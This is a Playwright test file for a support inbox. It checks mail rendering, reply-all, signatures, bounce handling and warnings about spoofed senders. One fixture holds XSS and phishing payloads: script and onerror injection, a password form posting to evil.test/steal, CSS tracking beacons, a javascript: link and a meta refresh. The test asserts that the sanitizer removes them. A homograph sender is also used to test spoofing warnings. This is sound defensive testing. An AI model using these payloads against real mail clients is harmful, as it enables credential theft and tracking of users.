import { runSql } from '../database.js'
import { history, row } from '../inbox/locators.js'
import { mailedLink, mailsTo } from '../mail.js'
import { call, registerCompany } from '../people.js'
import { expect, expectAccessible, expectToFit, test } from '../story.js'
import { bounce, html, plain, takesMail, TAKES_MAIL } from './mails.js'

const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='

const NEWSLETTER = `Content-Type: multipart/related; boundary=b1

--b1
${html(`<p>My <b>parcel</b> is <a href="https://shop.test/7">broken</a>.</p><img src="cid:photo@shop" alt="The parcel"><img src="https://tracker.test/x.gif" alt="">
<div class="gmail_quote"><div>On Mon, 4 Mar 2024 at 10:15, Ada wrote:<br></div><blockquote class="gmail_quote">It left our house.</blockquote></div>`)}
--b1
Content-Type: image/png; name="parcel.png"
Content-Disposition: inline; filename="parcel.png"
Content-ID: <photo@shop>
Content-Transfer-Encoding: base64

${DOT}
--b1--
`

test('a mail is shown as a mail, with its pictures, and remote ones only on request', async ({ installOnce }) => {
  const { somebody } = await installOnce(TAKES_MAIL)
  const ada = await somebody()
  await registerCompany(ada)
  const send = await takesMail(ada)
  const requests: string[] = []
  ada.on('request', (request) => requests.push(request.url()))
  // A blocked request never gets here.
  let tracked = 0
  await ada.route('https://tracker.test/**', (route) => {
    tracked += 1
    return route.fulfill({ contentType: 'image/png', body: Buffer.from(DOT, 'base64') })
  })
  await send({ cc: 'Eve <eve@shop.test>', content: NEWSLETTER })
  await row(ada, 'My parcel is broken').getByRole('link').click()

  await expect(history(ada).getByText('Order 7')).toBeVisible()
  await expect(history(ada).getByText('From dana@shop.test to help@acme.test, Cc eve@shop.test')).toBeVisible()
  await expect(history(ada).getByText('The sender could not be verified')).toBeVisible()
  const mail = history(ada).frameLocator('iframe[title="Order 7"]')
  await expect(mail.getByRole('link', { name: 'broken' })).toHaveAttribute('href', 'https://shop.test/7')
  const picture = mail.getByRole('img', { name: 'The parcel' })
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
  await expect(mail.getByText('It left our house.')).toHaveCount(0)
  expect(requests.filter((url) => /messages\/[^/]+\/email/.test(url))).toEqual([])
  expect(tracked).toBe(0)
  await history(ada).getByRole('button', { name: 'Show pictures' }).click()
  await expect.poll(() => tracked).toBe(1)

  await history(ada).getByRole('button', { name: 'Show the whole email' }).click()
  await expect(mail.getByText('It left our house.')).toBeVisible()
  await expectAccessible(ada)

  await history(ada).getByRole('button', { name: 'Email details' }).click()
  await expect(ada.getByRole('dialog').getByText('It answers no email that we know')).toBeVisible()
})

const HOSTILE = `<p>Please sign in.</p>
<script>top.document.title = 'taken'</script><img src="x" onerror="top.document.title = 'taken'">
<form action="https://evil.test/steal"><input name="password"><button>Sign in</button></form>
<style>body { position: fixed; inset: 0; background: url(https://evil.test/style) }</style>
<div style="position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 9999">Cover</div>
<p style="background: url(https://evil.test/inline)">Seen</p><iframe src="https://evil.test/frame"></iframe>
<a href="javascript:top.document.title='taken'">Click me</a><img src="https://evil.test/pixel.gif" width="1" height="1">
<meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><b>End</b>`

test('the HTML of a mail cannot run, ask for input, call out or leave its frame', async ({ installOnce }) => {
  const { somebody } = await installOnce(TAKES_MAIL)
  const ada = await somebody()
  await registerCompany(ada)
  const send = await takesMail(ada)
  const called: string[] = []
  await ada.route('https://evil.test/**', (route) => (called.push(route.request().url()), route.abort()))
  await send({ content: html(HOSTILE) })
  await row(ada, 'Please sign in.').getByRole('link').click()
  const frame = history(ada).locator('iframe[title="Order 7"]')
  const mail = frame.contentFrame()
  await expect(mail.getByText('End')).toBeVisible()
  await expect(
    mail.locator('script, form, input, button, style ~ style, iframe, meta[http-equiv=refresh]'),
  ).toHaveCount(0)
  await expect(mail.locator('[href^="javascript"], [onerror]')).toHaveCount(0)
  const box = await frame.boundingBox()
  expect(box?.width).toBeLessThan(1_280)
  expect(box?.height).toBeLessThan(400)
  await expectToFit(ada)
  // The cover does not lie over the page.
  await ada.getByRole('textbox', { name: 'Reply' }).click()
  await expect(ada).not.toHaveTitle('taken')
  expect(called).toEqual([])
})

test('an agent replies to all, with a signature, and sees that the mail was sent', async ({ installOnce }) => {
  const { papercups, somebody } = await installOnce(TAKES_MAIL)
  const ada = await somebody()
  await registerCompany(ada, '/account/profile')
  await ada.getByRole('textbox', { name: 'Signature' }).fill('Ada from Acme')
  await ada.getByRole('button', { name: 'Save signature' }).click()
  await expect(ada.getByText('Signature saved')).toBeVisible()

  const send = await takesMail(ada)
  await send({ cc: 'eve@shop.test', content: plain('Where is my parcel?') })
  await ada.goto('/conversations/all')
  await row(ada, 'Where is my parcel?').getByRole('link').click()
  const recipients = ada.getByRole('group', { name: 'Recipients' })
  await expect(recipients).toContainText('To dana@shop.test')
  await recipients.getByRole('button', { name: 'Reply to all' }).click()
  await expect(recipients).toContainText('Cc eve@shop.test')
  await recipients.getByRole('button', { name: 'Edit recipients' }).click()
  const bcc = recipients.getByRole('combobox', { name: 'Bcc' })
  await bcc.fill('boss')
  await bcc.press('Enter')
  await ada.getByRole('textbox', { name: 'Reply' }).fill('It is **here**.')
  await expect(recipients.getByText('Not an email: boss')).toBeVisible()
  await expect(ada.getByRole('button', { name: 'Send', exact: true })).toBeDisabled()
  await bcc.press('Backspace')
  await bcc.pressSequentially('boss@acme.test,')
  await expect(recipients.getByLabel('Subject')).toHaveValue(/^Re: /)
  await recipients.getByLabel('Subject').fill('Found your parcel')
  await expectAccessible(ada)
  await ada.getByRole('button', { name: 'Send', exact: true }).click()

  const state = history(ada).getByText('Emailed to dana@shop.test, Cc eve@shop.test, Bcc boss@acme.test')
  await expect(state).toBeVisible()
  await expect(recipients).not.toContainText('Bcc boss')
  const sent = (await mailsTo(papercups, 'dana@shop.test')).at(-1)
  expect(sent?.subject).toBe('Found your parcel')
  expect(sent?.text).toContain('-- \nAda from Acme')
  expect(sent?.html).toContain('<b>here</b>')

  await expect(recipients.getByRole('combobox', { name: 'Bcc' })).toBeHidden()

  const [dana] = await call<{ id: string }[]>(ada, '/api/customers?q=dana')
  const issue = await call<{ id: string }>(ada, '/api/issues', { data: { issue: { title: 'Parcels' } } })
  await call(ada, `/api/customers/${dana?.id}/issues`, { data: { issue_id: issue.id } })
  await call(ada, `/api/issues/${issue.id}/emails`, { data: { email: { subject: 'News', body: 'Faster now' } } })
  await ada.request.post(await mailedLink(papercups, 'dana@shop.test', 'unsubscribe'))
  await ada.reload()
  await expect(recipients.getByRole('status')).toContainText('dana@shop.test has unsubscribed.')
  await expectAccessible(ada)
  await ada.setViewportSize({ width: 360, height: 720 })
  await expectToFit(ada)
})

test('the thread marks a doubtful sender and a mail that came back, and an admin allows mail again', async ({
  installOnce,
}) => {
  const { papercups, somebody } = await installOnce(TAKES_MAIL)
  const ada = await somebody()
  const { account_id } = await registerCompany(ada)
  const send = await takesMail(ada)
  // The first letter of the domain is Cyrillic, and the name shows an address of Acme.
  await send({ from: '"boss@acme.test" <billing@xn--hop-ehd.test>', content: plain('Please pay this bill.') })
  await row(ada, 'Please pay this bill.').getByRole('link').click()
  await expect(history(ada).getByText('From billing@xn--hop-ehd.test (\u0455hop.test)')).toBeVisible()
  await expect(history(ada).getByText('The address mixes alphabets.')).toBeVisible()
  await expect(history(ada).getByText('The name of the sender shows another address')).toBeVisible()
  await expect(history(ada).getByText('The sender could not be verified')).toBeVisible()
  await expectAccessible(ada)

  await send({ from: 'billing@shop.test', subject: 'Order 8', content: plain('Where is order 8?') })
  await row(ada, 'Where is order 8?').getByRole('link').click()
  // Until then the composer is the one of the conversation before.
  await expect(ada.getByRole('group', { name: 'Recipients' })).toContainText('To billing@shop.test')
  await ada.getByRole('textbox', { name: 'Reply' }).fill('On its way.')
  await ada.getByRole('button', { name: 'Send', exact: true }).click()
  await expect(history(ada).getByText('Emailed to billing@shop.test')).toBeVisible()
  const [sent] = await runSql(papercups, 'select rfc_message_id from outgoing_mails where account_id = $1', [
    account_id,
  ])
  await send({ from: 'MAILER-DAEMON@shop.test', content: bounce('billing@shop.test', String(sent?.rfc_message_id)) })
  await expect(history(ada).getByText('The email came back from billing@shop.test: 550 5.1.1')).toBeVisible()
  await expect(history(ada).getByText('billing@shop.test gets no automatic emails')).toBeVisible()
  await expectAccessible(ada)
  await ada.setViewportSize({ width: 360, height: 720 })
  await expectToFit(ada)

  const [customer] = await call<{ id: string }[]>(ada, '/api/customers?q=billing@shop.test')
  await ada.goto(`/customers/${customer?.id}`)
  await expect(ada.getByText('Bounced')).toBeVisible()
  await expectToFit(ada)
  await ada.getByRole('button', { name: 'Allow again: automatic emails to billing@shop.test' }).click()
  await expect(ada.getByText('Bounced')).toBeHidden()
})
